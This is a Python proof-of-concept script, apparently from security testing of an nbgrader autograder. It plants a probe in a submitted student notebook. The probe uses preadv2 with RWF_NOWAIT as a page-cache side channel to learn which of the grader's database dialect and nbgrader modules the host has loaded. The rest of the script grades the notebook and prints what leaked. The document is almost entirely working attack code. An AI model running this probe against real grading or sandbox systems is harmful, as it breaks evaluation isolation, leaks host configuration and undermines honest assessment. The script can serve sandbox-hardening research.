"""preadv2(RWF_NOWAIT) as a page-cache oracle on the venv the grader shares with the sandbox (what cachestat, refused
ENOSYS, would tell): from inside mallory's kernel, which of the grader's own modules the host has read (sqlite vs
PostgreSQL gradebook dialect, nbgrader's, psycopg2), i.e. facts of the grader's configuration read from the host's cache."""
from lib import *
d = course("a03")
PROBE = r'''
import os, glob, sqlalchemy
base = os.path.dirname(sqlalchemy.__file__)
def cached(p):
    fd = os.open(p, os.O_RDONLY)
    try:
        os.preadv(fd, [bytearray(4096)], 0, os.RWF_NOWAIT); return "cached"
    except BlockingIOError: return "NOT cached"
    finally: os.close(fd)
import sys
names = [base + "/dialects/sqlite/pysqlite.py", base + "/dialects/postgresql/psycopg2.py", base + "/dialects/mysql/mysqldb.py",
         os.path.dirname(base) + "/nbgrader/preprocessors/overwritecells.py", os.path.dirname(base) + "/nbgrader/apps/exportapp.py",
         os.path.dirname(base) + "/nbgrader/server_extensions/formgrader/apihandlers.py"]
names += glob.glob(os.path.dirname(base) + "/psycopg2/__init__.py")
for p in names:
    pyc = glob.glob(os.path.join(os.path.dirname(p), "__pycache__", os.path.basename(p)[:-3] + ".*.pyc"))
    print(p.replace(os.path.dirname(base), "SITE"), "src:", cached(p) if os.path.exists(p) else "absent",
          "pyc:", cached(pyc[0]) if pyc else "absent")
'''
nb = honest()
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1": c.source += "\n" + PROBE
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
grade(d); scores(d)
g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", 4)
for c in g.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        for o in c.outputs: print(o.get("text", o.get("data")))
